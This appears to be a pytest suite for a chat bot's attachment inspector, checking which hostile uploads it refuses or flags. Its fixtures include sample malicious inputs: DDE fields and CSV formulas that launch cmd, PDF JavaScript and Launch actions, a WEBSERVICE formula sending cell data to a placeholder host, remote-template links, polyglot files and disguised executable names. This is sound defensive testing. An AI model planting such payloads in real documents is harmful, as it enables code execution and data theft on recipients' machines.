"""What is done with files that could do harm: what each is, its name, and whether it is refused or kept.

A file is refused with the sentence `file-…`, or kept, and then the reviewer is told what is inside (`desk-inside-…`), or kept
without a word, because programs that open a file of its name read nothing but what it shows.
"""

from __future__ import annotations

import io
import time
from dataclasses import dataclass

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.attachments.formats.kinds import Fault
from bot.attachments.inside.budget import UNPACKED_BYTES
from bot.attachments.inside.contents import REFUSED_FOR, Inside, fault_of
from bot.attachments.inside.look import look_inside
from bot.attachments.inspection import FileRefused
from bot.words.wording import Wording
from flows.dialogue import phrase
from tests.bot.attachments.file_samples import inspected, protected
from tests.bot.attachments.hostile_files import (
    JPEG,
    PNG,
    SCRIPT,
    archive,
    body,
    book,
    linked,
    native,
    nested,
    packed,
    pdf,
    record,
    relationship,
    sheet,
    slides,
    stream_of,
    word,
)
from tests.bot.attachments.office_files import MACRO_WORD, compound, office, package
from tests.bot.evidence_views.files import document, photo

JAVASCRIPT = b"<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>"
FIELD = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>{}<w:r><w:fldChar w:fldCharType="end"/></w:r>'
DDE = FIELD.format('<w:r><w:instrText> DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\\\cmd.exe "/k"</w:instrText></w:r>')
PAGES = FIELD.format("<w:r><w:instrText> PAGE </w:instrText></w:r>")
DDE_LINK = b'<externalLink xmlns="x"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
WEB = b'<worksheet xmlns="x"><c><f>_xlfn.WEBSERVICE("http://x.example/"&amp;A1)</f></c></worksheet>'
ACTION = b'<p:sld xmlns:p="p" xmlns:a="a"><a:hlinkClick action="ppaction://program"/></p:sld>'


@dataclass(frozen=True)
class Row:
    """A file, and what is done with it: the fault for which it is refused, or what the reviewer is told."""

    what: str
    name: str
    data: bytes
    becomes: Fault | str | frozenset[Inside]


def told(*inside: Inside) -> frozenset[Inside]:
    return frozenset(inside)


SILENT = told()
ROWS = (
    # Macros, under any name.
    Row("a document that declares macros", "a.docx", office("word/document.xml", MACRO_WORD), Fault.macros),
    Row("a macro document named as one", "a.docm", office("word/document.xml", MACRO_WORD), Fault.macros),
    Row("a macro workbook named as one", "a.xlsm", sheet(), Fault.macros),
    Row("macros in a document without a declaration", "a.docx", word(("word/vbaProject.bin", b"x")), Fault.macros),
    Row("macros in a document inside a document", "a.docx", nested(1, word("word/vbaProject.bin")), Fault.macros),
    Row("a macro sheet of 1992 in an old workbook", "a.xls", book(record(0x85, b"\0\0\0\0\0\x01\1\0x")), Fault.macros),
    Row("an old workbook with a plain sheet", "a.xls", book(record(0x85, b"\0\0\0\0\0\0\1\0x")), SILENT),
    Row("macros in an object inside a document", "a.docx", word(("word/embeddings/o.bin", compound("VBA"))), Fault.macros),
    Row("an active control", "a.docx", word("word/activeX/activeX1.xml"), Fault.scripts),
    # What a document fetches from elsewhere.
    Row("a template at another site", "a.docx", linked("attachedTemplate", "https://x.example/t.dotm"), Fault.loads),
    Row("the same with a prefix", "a.docx", linked("attachedTemplate", "https://x.example/t.dotm", "q"), Fault.loads),
    Row("the same, its characters as numbers", "a.docx", linked("attachedTemplate", "&#104;ttps://x.example/"), Fault.loads),
    Row("a template in a network folder", "a.docx", linked("attachedTemplate", "\\\\x.example\\t.dotx"), Fault.loads),
    Row("a template on the writer's own disk", "a.docx", linked("attachedTemplate", "file:///C:\\t\\Own.dotx"), SILENT),
    Row("an object at another site", "a.docx", linked("oleObject", "mhtml:http://x.example/a.html!x"), Fault.loads),
    Row("a frame at another site", "a.docx", linked("frame", "http://x.example/a"), Fault.loads),
    Row("a picture in a network folder", "a.docx", linked("image", "file://x.example/a.png"), Fault.loads),
    Row("a picture at another site", "a.docx", linked("image", "https://x.example/a.png"), told(Inside.remote)),
    Row("a link to click on", "a.docx", linked("hyperlink", "https://x.example/"), SILENT),
    Row(
        "a workbook that refers to another one at a site",
        "a.xlsx",
        sheet(("xl/externalLinks/_rels/a.xml.rels", relationship("externalLinkPath", "https://x.example/b.xlsx"))),
        told(Inside.remote),
    ),
    Row("a workbook with a connection to data", "a.xlsx", sheet("xl/connections.xml"), told(Inside.remote)),
    Row("a formula that asks a site", "a.xlsx", sheet(("xl/worksheets/sheet1.xml", WEB)), told(Inside.remote)),
    Row("a relationship in an encoding of two bytes", "a.docx", body(DDE, "utf-16"), Fault.programs),
    # What starts a program.
    Row("a field that asks a program, in two pieces", "a.docx", body(DDE), Fault.programs),
    Row("a simple field that asks a program", "a.docx", body('<w:fldSimple w:instr="DDE cmd"/>'), Fault.programs),
    Row("a field that numbers pages", "a.docx", body(PAGES), SILENT),
    Row("a workbook that asks a program", "a.xlsx", sheet(("xl/externalLinks/externalLink1.xml", DDE_LINK)), Fault.programs),
    Row("an old workbook that asks a program", "a.xls", book(record(0x1AE, b"\0\0\5\0\0cmd\3/c")), Fault.programs),
    Row("an old document that asks a program", "a.doc", compound("WordDocument", stream=b"\x13 DDEAUTO cmd"), Fault.programs),
    Row("a slide whose click starts a program", "a.pptx", slides(("ppt/slides/slide1.xml", ACTION)), Fault.programs),
    Row("a program in a document", "a.docx", word(("word/media/run.exe", b"MZ")), Fault.programs),
    Row("an archive in a document", "a.docx", word(("word/embeddings/a.zip", archive())), Fault.programs),
    Row("any file as an object", "a.docx", word(("word/embeddings/o.bin", native(b"\2\0"))), Fault.programs),
    Row("a picture as an object", "a.docx", word(("word/embeddings/o.bin", native(b"BM"))), told(Inside.objects)),
    Row("a table of a program in a CSV file", "a.csv", b"name,of\n=cmd|'/C calc'!A0,1\n", Fault.programs),
    Row("the same between semicolons", "a.csv", b"name;of\n1;\"-2+3+cmd|'/C calc'!A0\"\n", Fault.programs),
    Row("the same in UTF-16", "a.csv", "a\t@SUM(1)*cmd|'/C calc'!A0\n".encode("utf-16"), Fault.programs),
    Row("a formula in a CSV file", "a.csv", b'name\n=HYPERLINK("http://x.example","x")\n', told(Inside.formulas)),
    Row("signs, telephones and lists in a CSV file", "a.csv", "a,b\n-5,+86 (10) 6512\n- 有|无,是!\n".encode(), SILENT),
    # A workbook in a document is usual. Deeper than anybody needs, it is not looked through.
    Row("a workbook in a document", "a.docx", nested(1, sheet()), told(Inside.objects)),
    Row("documents in documents without end", "a.docx", nested(9, word()), told(Inside.objects, Inside.unread)),
    Row("a web page in a document", "a.docx", body('<w:altChunk r:id="r1" xmlns:r="r"/>'), told(Inside.objects)),
    Row("XML that nobody can read", "a.docx", word(("word/x.xml", b"<a External")), told(Inside.unread)),
    Row("a small part of zeros without end", "a.docx", word(("x.xml", b"<" + bytes(UNPACKED_BYTES))), told(Inside.unread)),
    Row(
        "an OFD document with attachments",
        "a.ofd",
        package(("OFD.xml", b"<OFD/>"), "Doc_0/Attachs/Attachments.xml"),
        told(Inside.attached),
    ),
    # PDFs.
    Row("a PDF that runs a script when opened", "a.pdf", pdf(JAVASCRIPT), Fault.scripts),
    Row("the same, hidden in its spelling", "a.pdf", pdf(JAVASCRIPT.replace(b"aS", b"#61#53")), Fault.scripts),
    Row("the same, compressed", "a.pdf", packed(JAVASCRIPT), Fault.scripts),
    Row("the same, without saying that it is objects", "a.pdf", packed(JAVASCRIPT, head=b"/First 4/N 1"), Fault.scripts),
    Row("a PDF with an active form", "a.pdf", pdf(b"<</AcroForm<</XFA 2 0 R>>>>"), Fault.scripts),
    Row("a PDF with a film that can run scripts", "a.pdf", pdf(b"<</Subtype/RichMedia>>"), Fault.scripts),
    Row("a PDF that starts a program", "a.pdf", pdf(b"<</OpenAction<</S/Launch/F(cmd.exe)>>>>"), Fault.programs),
    Row("a PDF that only opens at a page", "a.pdf", pdf(b"<</OpenAction[3 0 R/XYZ null null 0]>>"), SILENT),
    Row("a PDF with files in it", "a.pdf", pdf(b"<</Names<</EmbeddedFiles 2 0 R>>>>"), told(Inside.attached)),
    Row(
        "a PDF packed in an unusual way",
        "a.pdf",
        pdf(b"<</Type/ObjStm/First 4/Filter/LZWDecode>>stream\nx"),
        told(Inside.unread),
    ),
    Row("a PDF that only forbids changes", "a.pdf", protected("AES-256", ""), SILENT),
    Row("a PDF that the typesetter made", "a.pdf", document(2), SILENT),
    # Two files in one.
    Row("a PDF with an archive behind it", "a.pdf", pdf(b"<<>>") + archive(), Fault.second),
    Row("a PDF that is an archive's comment", "a.pdf", b"%PDF-1.7\n" + archive(comment=pdf(b"<<>>")), Fault.second),
    Row("a PDF that is a web page before its first object", "a.pdf", b"%PDF-1.7\n" + SCRIPT + pdf(b"<<>>"), Fault.second),
    Row("a PDF that is a web page behind its end", "a.pdf", pdf(b"<<>>") + SCRIPT, Fault.second),
    Row("a PDF with a RAR archive behind it", "a.pdf", pdf(b"<<>>") + b"Rar!\x1a\x07\x01\0", Fault.second),
    Row("a PDF about web pages", "a.pdf", pdf(b"<</Length 9>>stream\n(" + b" " * 2000 + SCRIPT + b")Tj\nendstream"), SILENT),
    Row("a photo with an archive behind it", "a.jpg", photo() + archive(), Fault.second),
    Row("a photo that is a PDF too", "a.jpg", JPEG + pdf(b"<<>>"), Fault.second),
    Row("a picture that is a web page too", "a.png", PNG + SCRIPT, Fault.second),
    Row("a photo that begins like a script", "a.jpg", b"\xff\xd8\xff\xe0/*" + bytes(40) + b"*/=alert(1)", SILENT),
    Row("a photo with a place, and a second photo behind it", "a.jpg", photo() + photo(), SILENT),
    Row("a text with an archive behind it", "a.txt", b"words " + b"7z\xbc\xaf\x27\x1c", Fault.disguised),
    # What is not what its name says.
    Row("a GIF that is a web page too", "a.gif", b"GIF89a" + SCRIPT, "file-unfit"),
    Row("a GIF named as a photo", "a.jpg", b"GIF89a" + SCRIPT, Fault.disguised),
    Row("a web page named as a PDF", "a.pdf", SCRIPT, Fault.disguised),
    Row("a web page before a PDF", "a.pdf", SCRIPT + pdf(b"<<>>"), Fault.disguised),
    Row("a drawing with a script", "a.svg", b"<svg xmlns='x'><script>alert(1)</script></svg>", "file-unfit"),
    Row("a drawing with a script, named as a picture", "a.png", b"<svg><script>1</script></svg>", Fault.disguised),
    Row("a web page named as a text", "a.txt", SCRIPT, SILENT),
    Row("an archive in an archive", "a.zip", archive(), Fault.archive),
    Row("an archive named as a document", "a.docx", archive(), Fault.archive),
    Row("a program under a turned name", "report\u202efdp.exe", b"MZ", "file-unfit"),
    Row("a program behind spaces", "report.pdf" + " " * 90 + ".exe", b"MZ", "file-unfit"),
)


@pytest.mark.parametrize("row", ROWS, ids=lambda row: row.what)
def test_what_is_done_with_a_file(row: Row) -> None:
    if isinstance(row.becomes, str):
        with pytest.raises(FileRefused) as refused:
            inspected(row.name, row.data, 64 * 1024)
        expected = row.becomes if row.becomes.startswith("file-") else f"file-{row.becomes}"
        assert refused.value.why.key == expected
        return
    kept = inspected(row.name, row.data, 64 * 1024)
    assert look_inside(io.BytesIO(row.data), kept.media_type) == row.becomes


@pytest.mark.parametrize("language", ["zh", "en"])
def test_every_refusal_and_every_finding_has_its_sentence(wording: Wording, language: str) -> None:
    refused = {wording.say(phrase(f"file-{fault}", name="a.pdf"), language) for fault in Fault}
    said = {wording.say(phrase(f"desk-inside-{inside}"), language) for inside in Inside}
    assert (len(refused), len(said)) == (len(Fault), len(Inside))


def test_the_gravest_reason_is_said_and_what_honest_files_have_is_kept() -> None:
    assert fault_of(Inside) is Fault.macros
    assert fault_of(set(Inside) - REFUSED_FOR.keys()) is None


def test_a_file_that_unpacks_without_end_is_given_up() -> None:
    began = time.process_time()
    bomb = packed(bytes(4 * UNPACKED_BYTES))
    assert look_inside(io.BytesIO(bomb), "application/pdf") == {Inside.unread}
    assert time.process_time() - began < 30


SEEDS = [row.data for row in ROWS if len(row.data) < 20_000]
KINDS = ("application/pdf", "text/csv", "application/msword", "image/png", "application/ofd")


@given(st.sampled_from(SEEDS), st.sampled_from(KINDS), st.lists(st.tuples(st.integers(0), st.integers(0, 255)), max_size=9))
def test_whatever_is_broken_is_looked_through(data: bytes, media_type: str, changes: list[tuple[int, int]]) -> None:
    broken = bytearray(data or b"x")
    for place, byte in changes:
        broken[place % len(broken)] = byte
    assert look_inside(io.BytesIO(bytes(broken)), media_type) <= set(Inside)


def test_a_stream_is_followed_by_the_tables_of_its_file() -> None:
    # The mark lies in the second sector of the stream, which a search from the first byte on would not connect with it.
    assert Inside.macros in look_inside(
        io.BytesIO(stream_of("Book", record(0x9, bytes(600)) + record(0x85, b"\0\0\0\0\0\x01"))), "application/vnd.ms-excel"
    )
